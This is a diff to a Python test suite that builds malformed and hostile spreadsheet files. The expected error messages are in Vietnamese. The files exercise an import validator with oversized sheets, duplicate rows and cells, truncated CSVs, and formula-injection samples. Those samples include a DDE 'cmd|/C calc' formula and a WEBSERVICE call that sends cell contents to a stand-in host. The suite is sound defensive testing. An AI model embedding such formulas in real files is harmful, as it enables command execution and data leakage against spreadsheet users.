@@ -45,7 +45,7 @@ def _zip(**files: bytes) -> bytes:
 
 
 def _bomb(megabytes: int) -> bytes:
-    row = '<row r="1"><c r="A1"><v>1</v></c></row>'
+    row = '<row><c s="000"><v>1</v></c></row>'
     return _with(
         "xl/worksheets/sheet1.xml", xlsx.sheet([]).replace("<sheetData>", "<sheetData>" + row * (megabytes * 1024 * 1024 // len(row)))
     )
@@ -92,6 +92,16 @@ def _one_cell(address: str, row: int) -> bytes:
         "xl/worksheets/sheet1.xml",
         xlsx.sheet(CELLS).replace("</sheetData>", f'<row r="{row}"><c r="{address}"><v>1</v></c></row></sheetData>'),
     )
+
+
+def _rows(first: str, second: str, *, plain: bool = True, cells: str = '<c r="A{0}"><v>1</v></c>') -> bytes:
+    """Two more rows as they write their numbers; not `plain`: in a form that only the parser reads."""
+    rows = "".join(f"<row{f' r="{number}"' if number else ''}>{cells.format(number)}</row>" for number in (first, second))
+    return _with("xl/worksheets/sheet1.xml", xlsx.sheet(CELLS).replace("</sheetData>", f"{'' if plain else '<!-- -->'}{rows}</sheetData>"))
+
+
+def _formula(written: str, *, plain: bool = True) -> bytes:
+    return _rows("3", "4", cells=f'<c r="A{{0}}"><f>{written}</f><v>1</v></c>', plain=plain)
 
 
 def _repeated(rows: int = 1, columns: int = 1) -> bytes:
@@ -178,6 +188,22 @@ FILES = (
     Hostile("goc-xa.xlsx", lambda: _one_cell("XFD1048576", 1_048_576), "XFD1048576"),
     Hostile("cot-ngoai.xlsx", lambda: _one_cell("XFE3", 3), "quá xa so với một danh sách"),
     Hostile("dong-ngoai.xlsx", lambda: _one_cell("A1048577", 1_048_577), "vượt giới hạn của Excel"),
+    Hostile("hai-dong.xlsx", lambda: _rows("3", "3"), "ghi hai lần dòng 3"),
+    Hostile("hai-dong-la.xlsx", lambda: _rows("3", "3", plain=False), "ghi hai lần dòng 3"),
+    Hostile("hai-dong-dau.xlsx", lambda: _rows("3", "1"), "ghi hai lần dòng 1"),
+    Hostile("dong-khong-so.xlsx", lambda: _rows("", "3"), "ghi hai lần dòng 3"),
+    Hostile("hai-dong.xls", lambda: xls.workbook([xls.Page("A", CELLS, extra=xls.record(0x27E, struct.pack("<HHHi", 0, 0, 0, 6)))]), "ghi hai lần dòng 1"),
+    Hostile("dong-am.xlsx", lambda: _rows("-1", "4"), "hỏng"),
+    Hostile("dong-la.xlsx", lambda: _rows("9223372036854775808", "4"), "hỏng"),
+    Hostile("hai-o.xlsx", lambda: _rows("3", "4", cells='<c r="B{0}"><v>1</v></c><c r="B{0}"><v>2</v></c>'), "hai nội dung cho một ô B3"),
+    Hostile("hai-o-la.xlsx", lambda: _rows("3", "4", cells='<c r="B{0}"><v>1</v></c><c r="B{0}"><v>2</v></c>', plain=False), "hai nội dung cho một ô B3"),
+    Hostile("dde.xlsx", lambda: _formula("cmd|'/C calc'!A0"), "gọi chương trình hoặc trang web khác"),
+    Hostile("dde-la.xlsx", lambda: _formula("cmd|&apos;/C calc&apos;!A0", plain=False), "gọi chương trình hoặc trang web khác"),
+    Hostile("mang.xlsx", lambda: _formula('1+_xlfn.WEBSERVICE("http://x/"&amp;A1)'), "gọi chương trình hoặc trang web khác"),
+    Hostile("dde.ods", lambda: ods.package(ods.content('<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string" table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"><text:p>x</text:p></table:table-cell></table:table-row></table:table>')), "gọi chương trình hoặc trang web khác"),
+    Hostile("chu-cat.csv", lambda: "Họ và tên,Ngày sinh\nLưu Gia Hân,05/06/2022\nLưu Gia Đ".encode()[:-1], "bị cắt ngang"),
+    Hostile("chu-cat-16.csv", lambda: "\ufeffHọ và tên\tNgày sinh\nLưu Gia Hân\t05/06/2022\n".encode("utf-16-le") + b"L", "bị cắt ngang"),
+    Hostile("lap-tre.ods", lambda: _repeated(rows=1_048_572, columns=5), "thêm 1048571 lần"),
     Hostile("16384-cot.xlsx", lambda: xlsx.workbook([["x"] * 16_384]), "quá xa so với một danh sách"),
     Hostile("o-dai.xlsx", lambda: xlsx.workbook([["a" * 40_000]]), "quá dài"),
     Hostile("nhieu-trang.xlsx", lambda: _sheets(201), "quá nhiều cho một danh sách"),
